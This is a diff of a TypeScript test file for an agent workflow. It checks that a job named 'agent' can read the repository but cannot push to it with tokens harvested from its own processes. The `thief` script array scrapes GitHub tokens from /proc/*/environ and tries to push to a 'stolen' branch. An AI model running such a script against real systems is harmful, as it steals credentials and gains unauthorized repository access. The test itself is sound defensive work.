@@ -17,9 +17,9 @@ const thief = [
   'echo started',
   'for file in /proc/[0-9]*/environ; do tr "\\0" "\\n" < $file 2>/dev/null; done | grep -aoE "(ghs|gho|ghp)_[A-Za-z0-9_.-]+" | sort -u > found.txt',
   'url=$(git config remote.origin.url)',
-  'echo "found $(wc -l < found.txt) tokens"',
   'while read -r token; do',
   '  header="Authorization: Basic $(printf "x-access-token:%s" "$token" | base64 -w0)"',
+  '  git -c http.extraheader="$header" ls-remote -q "$url" HEAD >/dev/null 2>&1 && echo READ',
   '  git -c http.extraheader="$header" push -q "$url" HEAD:refs/heads/stolen 2>&1 && echo PUSHED',
   'done < found.txt',
   'rm found.txt; echo x >> src/a.txt',
@@ -60,7 +60,7 @@ interface Attempt {
 
 function attemptOf(runtime: string, text: string): Attempt {
   beads += 1;
-  return { bead: beads, nonce: `nonce${String(beads).padStart(15, '0')}`, runtime, text };
+  return { bead: beads, nonce: `nonce${process.pid}x${String(beads).padStart(10, '0')}`, runtime, text };
 }
 
 /** Writes the bead's record as the App does, bound to a run or to none yet. */
@@ -140,7 +140,7 @@ describe('the workflow', () => {
     const log = await town.log(jobs.find((job) => job.name === 'agent').id);
     expect(log).toContain('| started');
     // The token that reads the repository is in the environment of the job's own processes, which the kernel lets it read.
-    expect(log).toMatch(/\| found [1-9]\d* tokens/);
+    expect(log).toContain('| READ');
     expect(log).not.toContain('PUSHED');
     expect((await town.ada('GET /repos/ada/lib/git/ref/heads/stolen')).status).toBe(404);
     expect(await resultOf(attempt)).toMatchObject({ gate: { status: 'accepted', files: 1 } });
